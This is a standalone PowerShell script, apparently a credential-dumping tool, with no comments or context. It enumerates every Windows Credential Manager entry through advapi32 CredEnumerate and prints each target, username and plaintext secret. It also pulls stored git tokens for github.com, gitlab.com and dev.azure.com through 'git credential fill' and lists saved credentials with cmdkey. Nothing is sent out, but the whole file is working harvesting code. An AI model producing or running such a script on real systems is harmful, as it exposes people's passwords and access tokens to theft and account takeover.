Add-Type -TypeDefinition @"
using System;
using System.Runtime.InteropServices;
public class CredMan {
  [StructLayout(LayoutKind.Sequential, CharSet=CharSet.Unicode)]
  public struct CREDENTIAL {
    public int Flags; public int Type; public string TargetName; public string Comment;
    public System.Runtime.InteropServices.ComTypes.FILETIME LastWritten;
    public int CredentialBlobSize; public IntPtr CredentialBlob; public int Persist;
    public int AttributeCount; public IntPtr Attributes; public string TargetAlias; public string UserName;
  }
  [DllImport("advapi32", SetLastError=true, CharSet=CharSet.Unicode)]
  public static extern bool CredEnumerate(string filter, int flag, out int count, out IntPtr creds);
}
"@

$count = 0; $ptr = [IntPtr]::Zero
[CredMan]::CredEnumerate($null, 0, [ref]$count, [ref]$ptr) | Out-Null
for ($i = 0; $i -lt $count; $i++) {
  $p = [Runtime.InteropServices.Marshal]::ReadIntPtr($ptr, $i * [IntPtr]::Size)
  $c = [Runtime.InteropServices.Marshal]::PtrToStructure($p, [type][CredMan+CREDENTIAL])
  $secret = ""
  if ($c.CredentialBlobSize -gt 0) {
    $secret = [Runtime.InteropServices.Marshal]::PtrToStringUni($c.CredentialBlob, $c.CredentialBlobSize / 2)
  }
  "{0}`t{1}`t{2}" -f $c.TargetName, $c.UserName, $secret
}

foreach ($h in "github.com", "gitlab.com", "dev.azure.com") {
  "protocol=https`nhost=$h`n" | git credential fill 2>$null
}
cmdkey /list
